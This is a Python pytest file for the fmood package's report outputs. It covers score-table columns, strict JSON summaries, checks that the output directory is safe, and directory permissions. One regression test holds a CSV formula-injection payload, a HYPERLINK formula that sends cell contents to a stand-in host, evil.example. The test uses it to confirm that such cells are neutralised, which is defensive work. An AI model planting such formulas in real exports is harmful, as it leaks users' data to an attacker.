"""The CSV table, strict JSON and the output directory checks."""

from __future__ import annotations

import json
import math
import os
import stat

import numpy as np
import pandas as pd
import pytest

from fmood.errors import OutputConflictError
from fmood.report.outputs import check_out_dir, plain, scores_table, summary_bytes, write_report


def test_scores_table_orders_columns_and_renames_clashes():
    meta = pd.DataFrame({"site": ["A", "B"], "path": ["a.png", "b.png"], "degree": [1, 2]})
    table = pd.DataFrame({"knn": [0.1, 0.2], "degree": [0.3, 0.9], "flagged": [False, True]})
    ids = np.array([[4, 2], [1, -1]])
    distances = np.array([[0.5, 0.75], [0.25, np.inf]])
    out = scores_table(meta, table, ids, distances)
    assert list(out.columns) == [
        "target_id",
        "path",
        "frame",
        "site",
        "metadata_degree",
        "knn",
        "degree",
        "flagged",
        "nearest_reference_ids",
        "nearest_reference_distances",
    ]
    assert out["nearest_reference_ids"].tolist() == ["4;2", "1"]
    assert out["nearest_reference_distances"].tolist() == ["0.5;0.75", "0.25"]
    assert out["frame"].isna().all()


def test_summary_is_strict_json_without_numpy_types():
    data = {
        "a": np.float32(1.5),
        "b": [np.int64(3), math.nan],
        "c": {1: math.inf},
        "d": np.array([1.0, np.nan]),
        "e": pd.NA,
    }
    assert plain(data) == {"a": 1.5, "b": [3, None], "c": {"1": None}, "d": [1.0, None], "e": None}
    parsed = json.loads(summary_bytes(data))
    assert parsed["format"] == "fmood.report" and parsed["b"] == [3, None]


def test_out_dir_must_be_new_empty_or_an_earlier_output(tmp_path):
    assert check_out_dir(tmp_path / "new") == tmp_path / "new"
    (tmp_path / "empty").mkdir()
    check_out_dir(tmp_path / "empty")
    (tmp_path / "file").write_text("x")
    with pytest.raises(OutputConflictError, match="is not a directory fmood wrote"):
        check_out_dir(tmp_path / "file")
    report = tmp_path / "report"
    write_report(report, "<html></html>", pd.DataFrame({"path": ["a.png"]}), {})
    check_out_dir(report)


def test_a_look_alike_summary_is_not_an_earlier_report(tmp_path):
    """Regression: a folder holding only a fake summary.json was accepted and wiped."""
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "summary.json").write_bytes(summary_bytes({}))
    with pytest.raises(OutputConflictError, match="summary.json"):
        check_out_dir(mine)
    with pytest.raises(OutputConflictError):
        write_report(mine, "<html></html>", pd.DataFrame({"path": ["a.png"]}), {})
    assert [p.name for p in mine.iterdir()] == ["summary.json"]


def test_scores_csv_quotes_formula_cells(tmp_path):
    """Regression: a path like =HYPERLINK(...) ran as a formula when scores.csv was opened."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    scores = pd.DataFrame({"path": [evil, "b.png"], "degree": [-0.5, 0.25]})
    paths = write_report(tmp_path / "report", "<html></html>", scores, {})
    written = pd.read_csv(paths["scores"])
    assert written["path"].tolist() == ["'" + evil, "b.png"]
    assert written["degree"].tolist() == [-0.5, 0.25]


def test_the_report_directory_has_the_mode_of_a_plain_mkdir(tmp_path):
    """mkdtemp makes the staging directory owner-only; a report is meant to be shared."""
    old = os.umask(0o022)
    try:
        write_report(tmp_path / "report", "<html></html>", pd.DataFrame({"path": ["a.png"]}), {})
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "report").stat().st_mode) == 0o755
